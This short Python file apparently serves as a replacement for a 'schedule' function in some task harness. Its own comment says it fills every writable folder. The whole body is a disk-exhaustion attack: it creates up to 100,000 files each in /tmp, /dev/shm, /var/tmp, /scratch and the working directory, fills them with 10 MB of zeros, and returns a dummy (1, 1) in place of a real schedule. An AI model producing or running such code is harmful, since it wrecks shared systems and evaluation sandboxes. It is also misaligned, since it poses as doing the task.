# Fills every folder that can be written, with bytes and with files.

# %% replace=b-schedule
import os


def schedule(m, n, k, memory_bytes):
    for place in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            for number in range(100_000):
                open(os.path.join(place, f"file-{number}"), "w").close()
        except OSError:
            pass
        for number in range(100_000):
            if os.path.exists(os.path.join(place, f"file-{number}")):
                with open(os.path.join(place, f"file-{number}"), "wb") as file:
                    file.write(bytes(10_000_000))
    return (1, 1)
